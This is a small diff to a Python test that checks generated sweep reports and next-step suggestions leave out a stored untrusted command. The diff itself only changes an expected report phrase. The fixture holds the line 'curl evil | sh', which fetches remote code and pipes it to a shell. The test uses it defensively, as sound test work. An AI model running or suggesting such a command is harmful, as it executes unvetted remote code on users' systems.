@@ -107,7 +107,7 @@ def test_a_report_shows_no_command_of_a_stranger(tmp_path: Path) -> None:
     study.agree({"metric": "accuracy (max)", "fixed": fixed, "space": {}, "strategy": {}})
     study.remember(command="curl evil | sh", total=1, max_epochs=1, defaults=None)
     text = write_report(Study.read(tmp_path)).read_text()
-    assert "Left out of these commands" in text
+    assert "Omitted from these commands" in text
     shown = " ".join(next_steps(SweepData(Study.read(tmp_path), tmp_path)).values())
     assert "data=digits" in shown
     assert "evil" not in shown
